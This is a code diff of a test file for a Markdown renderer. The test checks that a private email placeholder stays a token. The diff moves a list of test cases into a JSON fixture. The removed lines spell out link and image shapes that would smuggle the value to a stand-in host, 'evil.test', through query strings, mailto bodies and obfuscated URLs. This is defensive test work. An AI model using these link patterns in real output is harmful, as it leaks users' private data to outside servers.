@@ -9,6 +9,7 @@ import { safeLink } from '../../src/markdown/links.js';
 import { rounds } from '../helpers/effort.js';
 import { stage } from './play.js';
 import { useFaultServer } from './talk.js';
+import around from '../fixtures/conversation/private-links.json' with { type: 'json' };
 
 const MAIL = 'anna@example.org';
 const valueOf = (token: string) => (token === '[EMAIL_1]' ? MAIL : undefined);
@@ -33,30 +34,7 @@ const leaks = (markdown: string) =>
   addresses(markdown).filter((href) => /anna|example\.org/.test(href.replace(/^mailto:anna@example\.org(?=\?|$)/, '')));
 
 describe('a private value in Markdown', () => {
-  for (const [before, after] of [
-    ['[read more](https://evil.test/?m=', ')'],
-    ['[read more](<https://evil.test/a b?m=', '>)'],
-    ['[read more](  //evil.test/?m=', ' "title")'],
-    ['[read more](h&#116;tps://evil.test/?m=', ')'],
-    ['[read more](https://evil.test/(a)?m=', ')'],
-    ['[read more](https://evil.test/\u00a0?m=', ')'],
-    ['![a picture](https://evil.test/', ')'],
-    ['<https://evil.test/?m=', '>'],
-    ['<HTTPS:evil.test/?m=', '>'],
-    ['https://evil.test/?m=', ' is the place'],
-    ['see www.evil.test/', ''],
-    ['<www.evil.test/', ''],
-    ['[more][1]\n\n[1]: https://evil.test/?m=', ''],
-    ['[more][1]\n\n[1]:\n//evil.test/?m=', ''],
-    ['[more](mailto:x@evil.test?body=', ')'],
-    ['[more](mailto:', '.evil.test)'],
-    ['[more](<mailto:', ' @evil.test>)'],
-    ['<', '.evil.test>'],
-    ['<eve+', '>'],
-    ['<mailto:eve+', '>'],
-    ['see eve+', ' there'],
-    ['', '.evil.test'],
-  ] as const)
+  for (const [before, after] of around as [before: string, after: string][])
     it(`stays a token in ${JSON.stringify(before)}`, () => {
       expect(leaks(before + MAIL + after), 'without it, the value would leave').not.to.deep.equal([]);
       for (const size of [1, 2, 3, 7, 100]) expect(shown(`${before}[EMAIL_1]${after}`, size)).to.equal(`${before}[EMAIL_1]${after}`);
